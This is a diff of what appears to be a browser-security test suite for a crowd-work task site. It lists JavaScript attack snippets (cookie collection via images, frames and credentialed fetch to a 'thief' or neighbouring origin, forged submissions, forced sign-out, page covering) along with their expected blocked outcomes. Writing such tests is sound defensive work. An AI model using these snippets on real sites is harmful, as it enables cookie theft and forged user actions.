@@ -105,7 +105,7 @@ QUIET = {
         " body: new URLSearchParams({assignmentId: it.other, colour: 'stolen'})})",
         "got opaque|" + REFUSED,
     ),
-    "sign out by fetch": Attack("return sent(it.site + '/sign-out', {method: 'POST'})", "got opaque|" + REFUSED),
+    "sign out by fetch": Attack("return sent(it.site + '/signout', {method: 'POST'})", "got opaque|" + REFUSED),
     "make an API token": Attack(
         "return sent(it.site + '/account/tokens', {method: 'POST', body: new URLSearchParams({name: 'x'})})",
         "got opaque|" + REFUSED,
@@ -166,6 +166,15 @@ QUIET = {
         "top.location = it.thief + '/top'; await later(100); return 'nothing'", "got nothing|" + REFUSED
     ),
     "collect cookies by a picture": Attack("return loaded('img', {src: it.thief + '/img'})", "got (loaded|failed)"),
+    "collect cookies by a picture under the site's name": Attack(
+        "return loaded('img', {src: it.neighbour + '/img'})", "got (loaded|failed)"
+    ),
+    "collect cookies in a frame within under the site's name": Attack(
+        "return loaded('iframe', {src: it.neighbour + '/frame'})", "got (loaded|failed)"
+    ),
+    "collect cookies by a request under the site's name": Attack(
+        "return sent(it.neighbour + '/fetch', {credentials: 'include'})", "got opaque|" + REFUSED
+    ),
     "collect cookies by a request": Attack(
         "return sent(it.thief + '/fetch', {credentials: 'include'})", "got opaque|" + REFUSED
     ),
@@ -182,7 +191,7 @@ LOUD = {
     "post accepting to a new window": "post(it.site + it.accept, {}, '_blank')",
     "post returning to a new window": "post(it.site + it.otherWork, {_method: 'delete'}, '_blank')",
     "post submitting to a new window": "post(it.site + it.otherSubmit, {assignment_id: it.other}, '_blank')",
-    "post signing out to a new window": "post(it.site + '/sign-out', {}, '_blank')",
+    "post signing out to a new window": "post(it.site + '/signout', {}, '_blank')",
     "open the finish of another assignment": (
         "post(it.site + '/mturk/externalSubmit', {assignmentId: it.other, colour: 'x'}, '_blank')"
     ),
@@ -195,6 +204,7 @@ LOUD = {
     "go away and forge the message there": "location = it.thief + '/forge?own=' + it.other",
     "forge the message in a frame within": "click('iframe', {src: it.thief + '/forge?own=' + it.own})",
     "frame the site in its own place": "location = it.site + '/tasks'",
+    "go away to the site's name on another port": "location = it.neighbour + '/away'",
     "open the thief's server": "open(it.thief + '/popup')",
     "cover the page": (
         "const veil = document.createElement('div'); veil.style.cssText = 'position:fixed;inset:-9999px;"
